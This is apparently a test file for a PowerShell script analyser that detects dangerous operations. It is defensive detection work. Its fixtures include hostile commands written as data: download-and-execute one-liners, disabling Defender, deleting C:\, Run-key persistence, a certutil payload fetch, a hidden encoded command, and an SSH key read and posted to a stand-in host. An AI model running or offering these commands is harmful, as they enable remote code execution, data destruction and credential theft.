import * as fc from "fast-check";
import { expect, test } from "vitest";
import { lowerPowershell } from "./lower-powershell.ts";
import { POWERSHELL_OPERATIONS } from "./powershell-operations.ts";
import { traceProgram } from "./trace.ts";

const WHERE = { file: "x.ps1", via: [], lineAt: (line: number) => line, excerptAt: () => "" };
const read = (text: string) => traceProgram(lowerPowershell(text), POWERSHELL_OPERATIONS, WHERE);
const seen = (text: string) =>
  read(text).facts.map(({ op, class: kind }) => (kind === null ? op : `${op}:${kind}`));

test.each([
  ["iwr -useb https://a.io/x.ps1 | iex", ["download", "evaluate"]],
  [
    "IEX (New-Object Net.WebClient).DownloadString('https://a.io/x')",
    ["run", "download", "evaluate"],
  ],
  ["i`ex $x", ["evaluate"]],
  ['& ("i" + "ex") (irm https://a.io)', ["download", "evaluate"]],
  ["Set-MpPreference -DisableRealtimeMonitoring $true", ["weaken:antivirus"]],
  ["Get-MpPreference", ["run"]],
  ["Remove-Item -Recurse -Force C:\\", ["delete:root"]],
  [
    String.raw`reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v x`,
    ["schedule", "write:startup"],
  ],
  [String.raw`reg query HKCU\Software\Microsoft\Windows\CurrentVersion\Run`, []],
  ["Write-Output 'iwr https://a.io | iex'", ["run"]],
  [
    "@echo off\nset U=https://a.io/x\ncertutil -urlcache -f %U% %TEMP%\\x.exe",
    ["download", "write:temporary"],
  ],
])("%j does %j", (text, facts) => {
  expect(seen(text)).toEqual(facts);
});

test("a key that is read flows into the request that sends it", () => {
  const { facts } = read(
    '$k = gc "$env:USERPROFILE\\.ssh\\id_rsa"\nirm -Uri https://a.io -Method Post -Body $k',
  );
  expect(facts.find(({ op }) => op === "send")?.from.map((one) => one.class)).toEqual(["ssh-key"]);
});

test("an encoded command is handed on as the program that it is", () => {
  const code = Buffer.from("iwr https://a.io", "utf16le").toString("base64");
  expect(read(`powershell -w hidden -enc ${code}`).uncovered[0]?.text).toBe("iwr https://a.io");
});

test("hostile text never throws, and nesting beyond the cap is said to be unread", () => {
  expect(lowerPowershell("(".repeat(20_000)).isWhole).toBe(false);
  const pieces = fc.constantFrom(
    "(",
    ")",
    "$(",
    "@{",
    "}",
    "'",
    '"',
    "|",
    "`",
    "iex",
    "$x",
    ".a(",
    "[b]::c(",
    "\n",
    "@'",
    "&",
    "=",
  );
  fc.assert(
    fc.property(fc.array(pieces, { maxLength: 60 }), (parts) => {
      expect(lowerPowershell(parts.join("")).language).toBe("powershell");
    }),
  );
});
